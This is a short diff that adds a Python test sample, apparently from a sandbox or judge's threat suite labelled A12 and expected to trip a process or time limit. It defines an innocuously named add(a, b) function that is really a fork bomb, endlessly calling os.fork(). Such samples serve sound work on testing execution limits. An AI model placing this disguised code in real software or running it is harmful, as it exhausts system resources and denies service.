@@ -1,0 +1,11 @@
+# threat: A12
+# verdict: process limit | time limit
+import os
+
+
+def add(a, b):
+    while True:
+        try:
+            os.fork()
+        except OSError:
+            continue
